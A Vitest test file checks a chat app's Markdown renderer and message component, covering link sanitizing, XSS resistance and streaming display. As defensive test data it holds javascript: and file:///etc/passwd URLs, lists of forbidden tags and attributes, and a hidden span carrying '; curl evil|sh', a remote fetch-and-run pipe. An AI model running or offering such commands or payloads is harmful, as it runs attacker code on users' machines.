// @vitest-environment jsdom
import { afterEach, describe, expect, it, vi } from 'vitest';
import { JSDOM, VirtualConsole } from 'jsdom';
import { Marked } from 'marked';
import { flushSync, mount, unmount } from 'svelte';
import { createSubscriber } from 'svelte/reactivity';
import { renderBlocks, renderMarkdown, renderMarkdownWhole, safeHref, sanitizeHtml } from './markdown';
import { XSS_CORPUS } from './xss-corpus';
import MessageBody from '../views/MessageBody.svelte';

// Node resolves the 'svelte' package to its server build, where mount() does
// not exist; the component and this file get the browser build instead.
vi.mock('svelte', () => vi.importActual('../../node_modules/svelte/src/index-client.js'));
vi.mock('svelte/reactivity', () => vi.importActual('../../node_modules/svelte/src/reactivity/index-client.js'));

function fragment(html: string): DocumentFragment {
  const t = document.createElement('template');
  t.innerHTML = html;
  return t.content;
}

describe('renderMarkdown', () => {
  it('renders headings, emphasis and inline code', () => {
    const f = fragment(renderMarkdown('# Title\n\n## Sub\n\nSome *em*, **strong**, ~~gone~~ and `x < y`.'));
    expect(f.querySelector('h1')?.textContent).toBe('Title');
    expect(f.querySelector('h2')?.textContent).toBe('Sub');
    expect(f.querySelector('em')?.textContent).toBe('em');
    expect(f.querySelector('strong')?.textContent).toBe('strong');
    expect(f.querySelector('del')?.textContent).toBe('gone');
    expect(f.querySelector('p > code')?.textContent).toBe('x < y');
  });

  it('keeps single line breaks', () => {
    const f = fragment(renderMarkdown('one\ntwo'));
    expect(f.querySelector('p > br')).not.toBeNull();
  });

  it('renders lists, task lists and blockquotes', () => {
    const f = fragment(renderMarkdown('- a\n- b\n  1. nested\n\n3. three\n4. four\n\n- [x] done\n- [ ] todo\n\n> quoted'));
    expect(f.querySelectorAll('ul > li').length).toBe(4);
    expect(f.querySelector('ul ol > li')?.textContent).toBe('nested');
    expect(f.querySelector('ol[start="3"]')).not.toBeNull();
    expect(f.querySelector('input')).toBeNull();
    expect(f.querySelector('.md-task-done')).not.toBeNull();
    expect(f.querySelector('blockquote p')?.textContent).toBe('quoted');
  });

  it('renders tables with alignment', () => {
    const f = fragment(renderMarkdown('| a | b |\n|:-:|--:|\n| 1 | 2 |'));
    expect([...f.querySelectorAll('th')].map((th) => th.textContent)).toEqual(['a', 'b']);
    expect(f.querySelector('td[align="center"]')?.textContent).toBe('1');
    expect(f.querySelector('td[align="right"]')?.textContent).toBe('2');
  });

  it('highlights fenced code with a language and wraps it for a Copy button', () => {
    const f = fragment(renderMarkdown('```ts\nconst x: number = 1;\n```'));
    const wrap = f.querySelector('.md-code');
    expect(wrap?.querySelector('.md-code-head .md-code-lang')?.textContent).toBe('ts');
    const code = wrap?.querySelector('pre > code.hljs.language-ts');
    expect(code?.textContent).toBe('const x: number = 1;');
    expect(code?.querySelector('span.hljs-keyword')?.textContent).toBe('const');
    expect(code?.querySelector('span.hljs-number')?.textContent).toBe('1');
  });

  it('auto-detects code without a language and leaves unknown languages plain', () => {
    const auto = fragment(renderMarkdown('```\ndef f(x):\n    return x + 1\n```'));
    expect(auto.querySelector('pre code span[class^="hljs-"]')).not.toBeNull();
    const plain = fragment(renderMarkdown('```klingon\nqapla\' <b>x</b>\n```'));
    expect(plain.querySelector('pre code')?.textContent).toBe("qapla' <b>x</b>");
    expect(plain.querySelector('pre code *')).toBeNull();
  });

  it('keeps HTML in code as text', () => {
    const f = fragment(renderMarkdown('`<b>x</b>`\n\n```html\n<script>x()</script>\n```'));
    expect(f.querySelector('b')).toBeNull();
    expect(f.querySelector('script')).toBeNull();
    expect(f.querySelector('p > code')?.textContent).toBe('<b>x</b>');
    expect(f.querySelector('pre code')?.textContent).toBe('<script>x()</script>');
  });

  it('makes links safe and keeps their address', () => {
    const f = fragment(renderMarkdown('[ok](https://example.com/a?b=1) <mailto:me@example.com> www.example.org [bad](javascript:x()) [rel](/local)'));
    const [ok, mail, www, bad, rel] = [...f.querySelectorAll('a')];
    expect(ok.getAttribute('href')).toBe('https://example.com/a?b=1');
    expect(ok.getAttribute('rel')).toBe('noopener noreferrer');
    expect(ok.getAttribute('title')).toBe('https://example.com/a?b=1');
    expect(ok.hasAttribute('target')).toBe(false);
    expect(mail.getAttribute('href')).toBe('mailto:me@example.com');
    expect(www.getAttribute('href')).toBe('http://www.example.org/');
    expect(bad.hasAttribute('href')).toBe(false);
    expect(bad.textContent).toBe('bad');
    expect(rel.hasAttribute('href')).toBe(false);
  });

  it('never loads images: a safe image becomes a link, an unsafe one its alt text', () => {
    const f = fragment(renderMarkdown('![a cat](https://example.com/cat.png) ![x](javascript:y()) <img src="https://example.com/i.png">'));
    expect(f.querySelector('img')).toBeNull();
    const link = f.querySelector('a.md-image');
    expect(link?.getAttribute('href')).toBe('https://example.com/cat.png');
    expect(link?.textContent).toBe('a cat');
    expect(f.querySelectorAll('a').length).toBe(1);
  });

  it('drops classes it does not emit itself', () => {
    const f = fragment(sanitizeHtml('<p class="alert hljs-keyword md-x cursor">x</p>'));
    expect(f.querySelector('p')?.getAttribute('class')).toBe('hljs-keyword md-x');
  });

  it('renders reference links defined after their use', () => {
    const f = fragment(renderMarkdown('See [the docs][d].\n\n[d]: https://example.com/docs'));
    expect(f.querySelector('a')?.getAttribute('href')).toBe('https://example.com/docs');
  });

  it('renders a growing text, at every step, the same as rendering it whole', () => {
    const code = Array.from({ length: 50 }, (_, i) => `  total += values[${i}] * ${i}; // step ${i}`).join('\n');
    const full = [
      '# Plan', '', 'First **step** with `code`.', 'Same paragraph.', '', '```ts', 'function sum(values: number[]): number {',
      '  let total = 0;', code, '  return total;', '}', '```', '',
      '- one', '- two', '- [x] three', '', '1. first', '', '2. second, loose', '', '   ```', '   nested code', '   ```', '', 'Then:', '',
      '9. nine', '10. ten', '', '| a | b |', '|:--|--:|', '| 1 | 2 |', '', '> quoted **text**', '> - and a list', '',
      'See [x][r] and www.example.org.', '', '```', 'SELECT name, total FROM orders WHERE total > 100 ORDER BY total DESC;',
      'SELECT * FROM users;', '```', '', '[r]: https://example.com', 'Last line.',
    ].join('\n');
    for (let n = 1; n <= full.length; n += 13) {
      const text = full.slice(0, n);
      expect(renderBlocks(text).join(''), `after ${n} characters`).toBe(renderMarkdownWhole(text));
    }
    expect(renderMarkdown(full)).toBe(renderMarkdownWhole(full));
    const f = fragment(renderMarkdown(full));
    expect(f.querySelector('ol[start="9"]')).not.toBeNull();
    expect(f.querySelectorAll('.md-code').length).toBe(3);
    expect(f.querySelector('a')?.getAttribute('href')).toBe('https://example.com/');
  }, 60_000);
});

describe('safeHref', () => {
  it('accepts http, https and mailto', () => {
    expect(safeHref('https://example.com')).toBe('https://example.com/');
    expect(safeHref('HTTP://Example.com/a b')).toBe('http://example.com/a%20b');
    expect(safeHref('  https://example.com/x  ')).toBe('https://example.com/x');
    expect(safeHref('mailto:someone@example.com')).toBe('mailto:someone@example.com');
  });

  it('rejects everything else', () => {
    for (const href of [
      'javascript:alert(1)', 'JavaScript:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)',
      '\u0001javascript:alert(1)', 'data:text/html,x', 'vbscript:x', 'file:///etc/passwd', 'ftp://example.com',
      '/relative', '#frag', '//example.com', 'https:', 'http://', '', 'not a url',
    ]) {
      expect(safeHref(href), href).toBeNull();
    }
  });
});

const FORBIDDEN_TAGS = new Set([
  'script', 'iframe', 'frame', 'object', 'embed', 'form', 'svg', 'math', 'style', 'link', 'meta', 'base',
  'img', 'input', 'button', 'textarea', 'select', 'template', 'noscript', 'video', 'audio', 'source',
]);
const FORBIDDEN_ATTRS = new Set(['style', 'srcdoc', 'formaction', 'action', 'srcset', 'target', 'xlink:href']);
const URL_ATTRS = new Set(['href', 'src', 'data', 'action', 'formaction', 'xlink:href', 'background', 'poster']);

function assertInert(root: ParentNode, payload: string) {
  for (const el of root.querySelectorAll('*')) {
    expect(FORBIDDEN_TAGS.has(el.localName), `<${el.localName}> from ${payload}`).toBe(false);
    expect(el.namespaceURI, payload).toBe('http://www.w3.org/1999/xhtml');
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      expect(name.startsWith('on'), `${name} from ${payload}`).toBe(false);
      expect(FORBIDDEN_ATTRS.has(name), `${name} from ${payload}`).toBe(false);
      if (URL_ATTRS.has(name)) {
        expect(attr.value, `${name} from ${payload}`).toMatch(/^(https?:\/\/|mailto:)/);
        expect(safeHref(attr.value), `${name} from ${payload}`).toBe(attr.value);
      }
    }
  }
}

const EVENTS = [
  'load', 'error', 'focus', 'focusin', 'blur', 'click', 'dblclick', 'auxclick', 'mousedown', 'mouseup', 'mouseover',
  'mouseenter', 'pointerdown', 'pointerover', 'toggle', 'animationstart', 'transitionend', 'begin', 'start',
  'input', 'change', 'submit', 'keydown', 'scroll', 'wheel', 'copy', 'paste',
];

/**
 * How many times running html called window.__pwned(): parsed as part of a
 * document (scripts run) and inserted into a live one, where every element
 * then receives the events that fire inline handlers and is clicked (which
 * runs javascript: links).
 */
async function timesPwned(html: string): Promise<number> {
  let calls = 0;
  const pwned = () => {
    calls++;
  };
  const options = {
    runScripts: 'dangerously' as const,
    pretendToBeVisual: true,
    url: 'https://parley.invalid/',
    virtualConsole: new VirtualConsole(),
    beforeParse(w: unknown) {
      Object.assign(w as object, { __pwned: pwned, alert: pwned });
    },
  };
  const parsed = new JSDOM(`<!doctype html><html><head></head><body>${html}</body></html>`, options);
  const live = new JSDOM('<!doctype html><html><head></head><body></body></html>', options);
  live.window.document.body.innerHTML = html;
  for (const dom of [parsed, live]) {
    const w = dom.window;
    for (const el of [w.document.body, ...w.document.body.querySelectorAll('*')]) {
      for (const type of EVENTS) el.dispatchEvent(new w.Event(type, { bubbles: false }));
      if (el instanceof w.HTMLElement) {
        el.focus();
        el.click();
      }
    }
  }
  await new Promise((r) => setTimeout(r, 10)); // javascript: links run on a timer
  parsed.window.close();
  live.window.close();
  return calls;
}

describe('XSS corpus', () => {
  it('has enough payloads, and each one tries to call __pwned', () => {
    expect(XSS_CORPUS.length).toBeGreaterThanOrEqual(30);
    for (const p of XSS_CORPUS) expect(p.includes('__pwned') || p.includes('vbscript') || p.includes('base64'), p).toBe(true);
  });

  it('the execution check catches payloads when nothing sanitizes them', async () => {
    // Guards the check below: unsanitized, a good share of the corpus runs.
    const unsafe = new Marked({ gfm: true, breaks: true });
    let fired = 0;
    for (const p of XSS_CORPUS) if ((await timesPwned(unsafe.parse(p) as string)) > 0) fired++;
    expect(fired).toBeGreaterThanOrEqual(40);
  }, 60_000); // a jsdom with scripts per payload: seconds on a loaded machine

  it.each(XSS_CORPUS.map((p, i) => [i, JSON.stringify(p)] as const))('payload %i renders inert: %s', async (i) => {
    const payload = XSS_CORPUS[i];
    const html = renderMarkdown(payload);
    assertInert(fragment(html), payload);
    const div = document.createElement('div');
    div.innerHTML = html;
    assertInert(div, payload);
    // Sanitizing the output again removes nothing: it survives re-parsing.
    expect(sanitizeHtml(html)).toBe(div.innerHTML);
    expect(await timesPwned(html)).toBe(0);
    // The sanitizer holds on its own too, on the payload as raw HTML.
    const raw = sanitizeHtml(payload);
    assertInert(fragment(raw), payload);
    expect(await timesPwned(raw)).toBe(0);
  });
});

describe('MessageBody', () => {
  let component: ReturnType<typeof mount> | undefined;
  afterEach(() => {
    if (component) unmount(component);
    component = undefined;
    document.body.innerHTML = '';
  });

  function render(text: string, streaming = false) {
    const onOpenLink = vi.fn<(url: string) => void>();
    const onCopy = vi.fn<(text: string) => Promise<boolean>>(async () => true);
    const target = document.createElement('div');
    document.body.append(target);
    component = mount(MessageBody, { target, props: { text, streaming, onOpenLink, onCopy } });
    flushSync();
    return { target, onOpenLink, onCopy };
  }

  it('renders Markdown', () => {
    const { target } = render('# Hello\n\nworld');
    expect(target.querySelector('.md h1')?.textContent).toBe('Hello');
    expect(target.querySelector('.md p')?.textContent).toBe('world');
  });

  it('copies a code block with its Copy button', async () => {
    const { target, onCopy } = render('Text\n\n```js\nconst a = 1;\nconsole.log(a);\n```\n\n```\nsecond\n```');
    const buttons = target.querySelectorAll<HTMLButtonElement>('button.md-copy');
    expect(buttons.length).toBe(2);
    const button = buttons[0];
    expect(button.type).toBe('button');
    expect(button.getAttribute('aria-label')).toBe('Copy code');
    expect(button.textContent).toBe('Copy');
    button.click();
    expect(onCopy).toHaveBeenCalledWith('const a = 1;\nconsole.log(a);');
    await vi.waitFor(() => expect(button.textContent).toBe('Copied'));
    expect(target.querySelector('[role="status"]')?.textContent).toBe('Code copied');
    buttons[1].click();
    expect(onCopy).toHaveBeenLastCalledWith('second');
  });

  it('says so when copying fails', async () => {
    const { target, onCopy } = render('```\nx\n```');
    onCopy.mockResolvedValueOnce(false);
    const button = target.querySelector<HTMLButtonElement>('button.md-copy')!;
    button.click();
    await vi.waitFor(() => expect(button.textContent).toBe('Copy failed'));
  });

  it('opens links through onOpenLink and never navigates', async () => {
    const { target, onOpenLink } = render('See [docs](https://example.com/docs) and [bad](javascript:__pwned()).');
    const before = window.location.href;
    let prevented: boolean | undefined;
    document.addEventListener('click', (e) => (prevented = e.defaultPrevented), { once: true });
    const [docs, bad] = target.querySelectorAll('a');
    docs.click();
    expect(onOpenLink).toHaveBeenCalledWith('https://example.com/docs');
    expect(prevented).toBe(true);
    bad.click();
    expect(onOpenLink).toHaveBeenCalledTimes(1);
    await new Promise((r) => setTimeout(r, 10));
    expect(window.location.href).toBe(before);
  });

  it('activates a link from the keyboard', () => {
    const { target, onOpenLink } = render('<https://example.com>');
    const link = target.querySelector('a')!;
    link.focus();
    expect(document.activeElement).toBe(link);
    // Browsers turn Enter on a focused link into a click.
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, detail: 0 }));
    expect(onOpenLink).toHaveBeenCalledWith('https://example.com/');
  });

  it('while streaming, renders at most once a frame, at once after a pause, and at once when done', async () => {
    let text = 'Hello';
    let streaming = true;
    let changed = () => {};
    const subscribe = createSubscriber((update) => {
      changed = update;
      return () => {};
    });
    const target = document.createElement('div');
    document.body.append(target);
    component = mount(MessageBody, {
      target,
      props: {
        get text() {
          subscribe();
          return text;
        },
        get streaming() {
          subscribe();
          return streaming;
        },
        onOpenLink: () => {},
        onCopy: async () => true,
      },
    });
    flushSync();
    const shown = () => target.querySelector('.md')?.textContent?.trim();
    expect(shown()).toBe('Hello');
    await new Promise((r) => setTimeout(r, 40));
    for (const t of ['Hello **wor', 'Hello **world**', 'Hello **world**, again']) {
      text = t;
      changed();
      flushSync();
    }
    // The first change came after a pause, so it is on screen at once; the
    // next two wait for the next frame.
    expect(shown()).toBe('Hello **wor');
    await new Promise((r) => requestAnimationFrame(r));
    flushSync();
    expect(shown()).toBe('Hello world, again');
    expect(target.querySelector('.md strong')?.textContent).toBe('world');
    await new Promise((r) => setTimeout(r, 40));
    text = 'Hello **world**, again.';
    changed();
    flushSync();
    expect(shown()).toBe('Hello world, again.');
    text = 'Hello **world**, again. Done.';
    streaming = false;
    changed();
    flushSync();
    expect(shown()).toBe('Hello world, again. Done.');
    expect(target.querySelector('.md')?.classList.contains('streaming')).toBe(false);
  });

  it('renders Markdown only once the message comes near the screen', () => {
    let callback: ((entries: { isIntersecting: boolean }[]) => void) | undefined;
    const observed: Element[] = [];
    vi.stubGlobal('IntersectionObserver', class {
      constructor(cb: (entries: { isIntersecting: boolean }[]) => void) { callback = cb; }
      observe(el: Element) { observed.push(el); }
      disconnect() {}
    });
    try {
      const { target } = render('Some **bold** text');
      expect(target.querySelector('strong')).toBeNull();
      expect(target.querySelector('.md-plain')?.textContent).toBe('Some **bold** text');
      expect(observed).toHaveLength(1);
      callback!([{ isIntersecting: true }]);
      flushSync();
      expect(target.querySelector('strong')?.textContent).toBe('bold');
      expect(target.querySelector('.md-plain')).toBeNull();
    } finally {
      vi.unstubAllGlobals();
    }
  });

  it('shows a cursor while streaming', () => {
    const { target } = render('', true);
    expect(target.querySelector('.md.streaming .cursor')).not.toBeNull();
    expect(target.querySelector('.md')?.getAttribute('aria-busy')).toBe('true');
  });
});

describe('raw HTML in a reply', () => {
  it('is shown as text, so it cannot borrow the renderer’s classes or hide text from Copy', () => {
    const html = renderMarkdown(
      '<div class="md-code"><pre><code>ls -la<span class="md-sr-only">; curl evil|sh</span></code></pre></div>',
    );
    const div = document.createElement('div');
    div.innerHTML = html;
    expect(div.querySelector('.md-sr-only, .md-code, span')).toBeNull();
    expect(div.textContent).toContain('curl evil|sh'); // visible, as text
  });

  it('cannot carry a code marker into an attribute', () => {
    const html = renderMarkdown("> <div title='\n\n```js\nx = 'a'\n```\n\n<div x='>");
    const div = document.createElement('div');
    div.innerHTML = html;
    expect(div.querySelector('[title]')).toBeNull();
    expect(div.querySelector('pre code .hljs-string')).not.toBeNull(); // the code block still renders
  });
});
